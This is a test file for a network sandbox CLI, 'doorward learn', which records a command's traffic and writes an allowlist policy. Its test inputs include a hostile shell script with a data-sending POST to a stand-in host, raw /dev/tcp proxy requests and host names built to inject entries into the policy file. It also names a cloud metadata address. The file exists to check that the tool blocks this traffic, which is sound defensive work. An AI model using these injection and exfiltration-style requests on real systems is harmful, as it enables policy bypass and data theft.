// `doorward learn` with real programs, in an internet of our own: what it writes lets the same pass, and nothing else.
import { assertEquals, assertMatch, assertRejects, assertStringIncludes } from "@std/assert";
import { testClient } from "../support/client_world.ts";
import { curl } from "../support/clients.ts";
import { doorward, spawnDoorward } from "../support/doorward_cli.ts";
import { runInside, testInside } from "../support/namespace/run_inside.ts";
import { makeScratch } from "../support/scratch.ts";
import { greet, startWebOrigin } from "../support/web_origin.ts";

/** Without what an earlier one has downloaded. */
function npmInstall(folder: string): readonly string[] {
  return ["npm", "install", `--prefix=${folder}`, `--cache=${folder}-cache`, "tiny"];
}

testInside(
  "npm install passes under what was learned of it, and nothing else does",
  "npm",
  async (scratch) => {
    const run = ["doorward", "run", "--config", "learned.toml", "--"];
    const explain = ["doorward", "explain", "--config", "learned.toml"];
    const { ended, asked } = await runInside(scratch, [
      ["doorward", "learn", "--out", "learned.toml", "--", ...npmInstall("first")],
      ["doorward", "check", "learned.toml"],
      [...run, ...npmInstall("second")],
      [...run, "curl", "-sS", "https://other.test/"],
      [...explain, "https://registry.npmjs.org"],
      [...explain, "https://other.test"],
      [...explain, "registry.npmjs.org:8443"],
    ]);
    const policy = await Deno.readTextFile(`${scratch.folder}/learned.toml`);
    assertEquals(ended.map(({ code }) => code), [0, 0, 0, 56, 0, 1, 1], JSON.stringify(ended));
    for (const folder of ["first", "second"]) {
      const file = `${scratch.folder}/${folder}/node_modules/tiny/hello.txt`;
      assertEquals(await Deno.readTextFile(file), "hello from the origin\n");
    }
    const packages = (turn: number) => [
      `${turn} GET https://registry.npmjs.org/tiny`,
      `${turn} GET https://registry.npmjs.org/tiny/-/tiny-1.0.0.tgz`,
    ];
    assertEquals(asked, [...packages(0), ...packages(2)]);
    assertMatch(policy, /\nallowed_domains = \[\n {2}# .*\n {2}"registry\.npmjs\.org:443",\n\]\n/);
    assertStringIncludes(policy, '# presets = ["npm"] has registry.npmjs.org\n');
    assertStringIncludes(policy, "enable_socks5 = false\n");
    // Its own words are npm's.
    assertStringIncludes(ended[0]!.stdout, "added 1 package");
    assertEquals(ended[0]!.stdout.includes("doorward"), false);
    assertStringIncludes(ended[0]!.stderr, "the policy is in learned.toml\n");
    assertEquals(ended[1]!.stderr, "");
    assertStringIncludes(
      ended[3]!.stderr,
      "doorward: blocked other.test:443 (not in the allowlist)",
    );
  },
);

testInside(
  "where HTTPS is looked into, a host that was only read from is only read from afterwards",
  "npm",
  async (scratch) => {
    await scratch.configure(
      "[network]\nmitm = true\n" +
        `upstream_ca_file = ${JSON.stringify(`${scratch.folder}/cert.pem`)}\n` +
        'allowed_domains = ["registry.npmjs.org", "unused.test"]\n',
    );
    const upload = ["curl", "-sS", "--fail", "-d", "x=1"];
    const both = '"$@" && curl -sS -d x=1 https://other.test/upload';
    const run = ["doorward", "run", "--config", "learned.toml", "--"];
    const { ended, asked } = await runInside(scratch, [
      [
        "doorward",
        "learn",
        "--out",
        "learned.toml",
        "sh",
        "-c",
        both,
        "sh",
        ...npmInstall("first"),
      ],
      ["doorward", "check", "learned.toml"],
      [...run, ...npmInstall("second")],
      [...run, ...upload, "https://registry.npmjs.org/tiny"],
      [...run, ...upload, "https://other.test/upload"],
      [...run, ...upload, "-X", "PUT", "https://other.test/upload"],
    ]);
    const policy = await Deno.readTextFile(`${scratch.folder}/learned.toml`);
    assertEquals(ended.map(({ code }) => code), [0, 0, 0, 22, 0, 22], JSON.stringify(ended));
    const packages = (turn: number) => [
      `${turn} GET https://registry.npmjs.org/tiny`,
      `${turn} GET https://registry.npmjs.org/tiny/-/tiny-1.0.0.tgz`,
    ];
    assertEquals(asked, [
      ...packages(0),
      "0 POST https://other.test/upload",
      ...packages(2),
      "4 POST https://other.test/upload",
    ]);
    const rules = '"registry.npmjs.org:443" = "read"\n"other.test:443" = { methods = ["POST"] }\n';
    assertStringIncludes(policy, `\n[network.rules]\n${rules}`);
    assertMatch(policy, /# known by "registry\.npmjs\.org"; 2 requests; first /);
    assertMatch(policy, /# NEW; 1 request; first .*; POST\n {2}# look at it: writes \(POST\)\n/);
    assertEquals(policy.includes("unused.test"), false);
    assertEquals(ended[1]!.stderr, "");
  },
);

/** What a command asks for that somebody ought to look at, each by curl. */
const HOSTILE = `
ask() { curl -s -o /dev/null "$@"; }
ask -L http://other.test/leave
ask http://inside.test/
ask http://127.0.0.1:80/
ask http://8.8.4.4/
ask https://other.test:8443/
ask -X DELETE http://project.github.io/
ask https://d1f8a92b7c3e.test/
ask https://nowhere.test/
ask https://denied.test/
ask --proxy socks5h://\${http_proxy#http://} http://other.test/socks
exec 3<>/dev/tcp/127.0.0.1/\${http_proxy##*:}
printf 'GET http://a"]\\ndenied_domains = [/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; cat <&3
for name in 'a%22%5D%0A' 'a"b.test' "a'b.test" 'a\\b.test' '#a.test' 'a[b].test' $'a\\x1b[31m.test'; do
  exec 3<>/dev/tcp/127.0.0.1/\${http_proxy##*:}
  printf 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n' "$name" "$name" >&3; head -1 <&3
done
`;

testInside(
  "what a hostile command asks for is marked or left out, and cannot write the policy",
  "curl",
  async (scratch) => {
    const { ended } = await runInside(scratch, [
      [
        "doorward",
        "learn",
        "--deny",
        "denied.test",
        "--out",
        "learned.toml",
        "--json",
        "bash",
        "-c",
        HOSTILE,
      ],
      ["doorward", "check", "learned.toml"],
    ]);
    const policy = await Deno.readTextFile(`${scratch.folder}/learned.toml`);
    assertEquals(ended.map(({ code }) => code), [0, 0], JSON.stringify(ended));
    assertEquals(ended[1]!.stderr, "");
    // What is no host is no request, whatever is in it.
    const refused = ended[0]!.stdout.match(/^HTTP\/1\.1 .*$/gm)!.map((line) => line.trim());
    assertEquals(refused, Array(8).fill("HTTP/1.1 400 Bad Request"));
    const { hosts, blocked, unreached } = JSON.parse(
      ended[0]!.stderr.trimEnd().split("\n").at(-1)!,
    );
    assertEquals(
      hosts.map(({ pattern, marks }: Learned) => [pattern, ...marks.map(({ kind }) => kind)]),
      [
        ["other.test:80", "plain_http"],
        ["8.8.4.4:80", "address", "plain_http"],
        ["other.test:8443"],
        ["project.github.io:80", "writes", "shared", "plain_http"],
        ["d1f8a92b7c3e.test:443", "made_up"],
      ],
    );
    assertEquals(blocked.map(({ host, reasons }: Blocked) => [host, reasons]), [
      ["169.254.169.254", { not_allowed_local: 1 }],
      ["inside.test", { not_allowed_local: 1 }],
      ["127.0.0.1", { not_allowed_local: 1 }],
      ["denied.test", { denied: 1 }],
    ]);
    assertEquals(unreached.map(({ host }: Blocked) => host), ["nowhere.test"]);
    assertEquals(
      policy.match(/^ *"[^"]*"/gm)!.map((entry) => entry.trim()),
      [...hosts.map(({ pattern }: Learned) => `"${pattern}"`), '"denied.test"'],
    );
    assertStringIncludes(policy, "#   169.254.169.254:80: a cloud metadata address (1 time)\n");
    assertStringIncludes(policy, "enable_socks5_udp = false\n");
    assertEquals(policy.includes("/leave"), false);
  },
);

/** Parts of what learn prints as JSON. */
interface Learned {
  readonly pattern: string;
  readonly marks: readonly { readonly kind: string }[];
}
interface Blocked {
  readonly host: string;
  readonly reasons: Readonly<Record<string, number>>;
}

/** Waits for SIGINT, and ends with 5. */
const UNTIL_CTRL_C = `
trap 'exit 5' INT
curl -s -o /dev/null http://127.0.0.2:"$1"/hello
echo ready
read line
`;

testClient(curl, "learn writes the policy of a command that Ctrl-C ended", async () => {
  await using scratch = await makeScratch();
  await using origin = startWebOrigin(greet, { hostname: "127.0.0.2" });
  const own = ["learn", "--allow", "127.0.0.2", "--out", "learned.toml", "--"];
  const command = ["sh", "-c", UNTIL_CTRL_C, "sh", String(origin.port)];
  await using learning = spawnDoorward([...own, ...command], scratch);
  await learning.stdout.until(/ready\n/);
  const file = `${scratch.folder}/learned.toml`;
  assertEquals((await Deno.readTextFile(file)).split("\n")[1], "[network]");
  learning.kill("SIGINT");
  const { code, stdout, stderr } = await learning.ended;
  assertEquals([code, stdout], [5, "ready\n"]);
  assertStringIncludes(stderr, "doorward: warning: the command ended with 5: ");
  assertStringIncludes(await Deno.readTextFile(file), `  "127.0.0.2:${origin.port}",\n]\n`);
});

testClient(
  curl,
  "what was learned is printed on standard error where no file is named",
  async (program) => {
    await using scratch = await makeScratch();
    await using origin = startWebOrigin(greet, { hostname: "127.0.0.2" });
    const words = [program, "-sS", `${origin.url}/hello`];
    const learned = await doorward(
      ["learn", "-q", "--allow", "127.0.0.2", "--", ...words],
      scratch,
    );
    assertEquals([learned.code, learned.stdout], [0, "hello from the origin\n"]);
    const file = await scratch.write("printed.toml", learned.stderr);
    const run = await doorward(["run", "--config", file, "--", ...words], scratch);
    assertEquals([run.code, run.stdout, run.stderr], [0, "hello from the origin\n", ""]);
  },
);

Deno.test("learn starts nothing where it cannot write, and two do not write one file", async () => {
  await using scratch = await makeScratch();
  const started = [Deno.execPath(), "eval", "Deno.writeTextFileSync('started', '')"];
  const learn = (out: string) => doorward(["learn", "--out", out, "--", ...started], scratch);
  for (const out of ["none/learned.toml", "learned.toml"]) {
    await scratch.write("learned.toml", "# of another\n");
    const { code, stderr } = await learn(out);
    assertEquals(code, 125);
    assertStringIncludes(stderr, `doorward: ${out}: cannot write this file: `);
  }
  assertEquals(await Deno.readTextFile(`${scratch.folder}/learned.toml`), "# of another\n");
  await assertRejects(() => Deno.stat(`${scratch.folder}/started`), Deno.errors.NotFound);
});
